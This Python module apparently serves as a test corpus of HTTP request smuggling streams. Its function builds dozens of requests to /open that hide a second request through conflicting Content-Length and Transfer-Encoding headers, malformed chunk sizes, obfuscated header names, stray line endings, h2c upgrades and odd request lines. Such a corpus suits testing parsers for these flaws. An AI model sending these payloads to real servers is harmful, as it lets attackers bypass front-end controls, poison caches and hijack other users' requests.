"""Streams in which some server once saw a request where another saw a body, or the other way round."""

from __future__ import annotations

from typing import Final

_CHUNKED: Final = b"Transfer-Encoding: chunked"
_ENDED: Final = b"0\r\n\r\n"
_CODINGS: Final = (
    b"xchunked",
    b"identity",
    b"chunked, identity",
    b"identity, chunked",
    b"gzip, chunked",
    b"CHUNKED",
    b"\tchunked",
    b"\x0bchunked",
    b"chunked\r\nTransfer-Encoding: x",
    b"x\r\nTransfer-Encoding: chunked",
    b"\r\n chunked",
    b'"chunked"',
    b"chunked;q=1",
    b",chunked",
    b"chunked,",
    b"",
    b"chunked chunked",
)
_LENGTHS: Final = (
    b"5, 5",
    b"5, 6",
    b"+5",
    b" 5",
    b"5 ",
    b"\t5",
    b"05",
    b"5\r\nContent-Length: 5",
    b"0x5",
    b"5_",
    b"-5",
    b"5\r\nContent-Length: 6",
    b"",
    b"18446744073709551621",
    b"5;",
    b"5.0",
    b"5\r\n 6",
    b"\xb5",
)
_SIZES: Final = (
    b"3\r\n",
    b"3;a=b\r\n",
    b'3;a="b"\r\n',
    b"3;a\n",
    b"3;\r\n",
    b"3\n",
    b"003\r\n",
    b"0x3\r\n",
    b" 3\r\n",
    b"3 \r\n",
    b"+3\r\n",
    b"-3\r\n",
    b"10000000000000003\r\n",
    b"3\r\r\n",
    b"3;a\rb\r\n",
    b"\r\n",
    b"g\r\n",
)


def smuggled(hidden: bytes, *headers: bytes) -> tuple[bytes, ...]:
    """Return streams for /open, with `headers`, in which the request `hidden` stands where it is doubtful."""

    def request(line: bytes, *lines: bytes, body: bytes = b"") -> bytes:
        return b"\r\n".join([line, *headers, *lines, b"", body])

    def post(*lines: bytes, body: bytes = b"") -> bytes:
        return request(b"POST /open HTTP/1.1", b"Host: a", *lines, body=body)

    return (
        post(b"Content-Length: 5", _CHUNKED, body=_ENDED + hidden),
        post(_CHUNKED, b"Content-Length: 4", body=b"%x\r\n" % len(hidden) + hidden + b"\r\n" + _ENDED),
        *(post(b"Transfer-Encoding: " + coding, body=_ENDED + hidden) for coding in _CODINGS),
        *(post(b"Content-Length: " + length, body=b"12345" + hidden) for length in _LENGTHS),
        *(post(_CHUNKED, body=size + b"abc\r\n" + _ENDED + hidden) for size in _SIZES),
        post(_CHUNKED, body=b"3\r\nabc\n0\r\n\r\n" + hidden),
        post(_CHUNKED, body=b"3\r\nabc0\r\n\r\n" + hidden),
        post(_CHUNKED, body=b"3\r\nabc\r\n0\n\n" + hidden),
        post(_CHUNKED, body=b"0\r\nContent-Length: 50\r\n\r\n" + hidden),
        post(_CHUNKED, body=b"0\r\nConnection: close\r\n\r\n" + hidden),
        post(b"Content-Length : 5", body=b"12345" + hidden),
        post(b"Content_Length: 5", body=hidden),
        post(b"Transfer-Encoding : chunked", body=_ENDED + hidden),
        post(b" Content-Length: 5", body=b"12345" + hidden),
        post(b"X: y\nTransfer-Encoding: chunked", body=_ENDED + hidden),
        post(b"X: y\rTransfer-Encoding: chunked", body=_ENDED + hidden),
        post(b"X: y\x00z", body=hidden),
        post(b"X: y\r\n\r", body=hidden),
        post(b"Connection: upgrade", b"Upgrade: h2c", body=hidden),
        post(b"Connection: upgrade", b"Upgrade: h2c", b"Content-Length: 5", body=b"12345" + hidden),
        post(b"Connection: close", body=hidden),
        request(b"CONNECT a:80 HTTP/1.1", b"Host: a", b"Content-Length: %d" % len(hidden), body=hidden),
        request(
            b"POST /open HTTP/1.0",
            b"Connection: keep-alive",
            b"Transfer-Encoding: chunked",
            body=_ENDED + hidden,
        ),
        request(b"GET /open HTTP/1.0", b"Connection: keep-alive", body=hidden),
        b"GET /open\r\n\r\n" + hidden,
        request(b"GET /open HTTP/0.9", b"Host: a", body=hidden),
        request(b"GET /open HTTP/2.0", b"Host: a", body=hidden),
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + hidden,
        request(b"GET /open%0d%0aX:%20y%0d%0a HTTP/1.1", b"Host: a", body=hidden),
        request(b"GET http://b/open HTTP/1.1", b"Host: a", body=hidden),
        request(b"GET  /open  HTTP/1.1", b"Host: a", body=hidden),
        b"GET /open HTTP/1.1\nHost: a\n\n" + hidden,
        request(b"GET /open HTTP/1.1", b"Host: a", b"Host: b", body=hidden),
        request(b"GET /open#x HTTP/1.1", b"Host: a", body=hidden),
        request(b"HEAD /open HTTP/1.1", b"Host: a", b"Content-Length: %d" % len(hidden), body=hidden),
        b"\r\n\r\nGET /open HTTP/1.1\r\nHost: a\r\n\r\n\r\n" + hidden,
    )
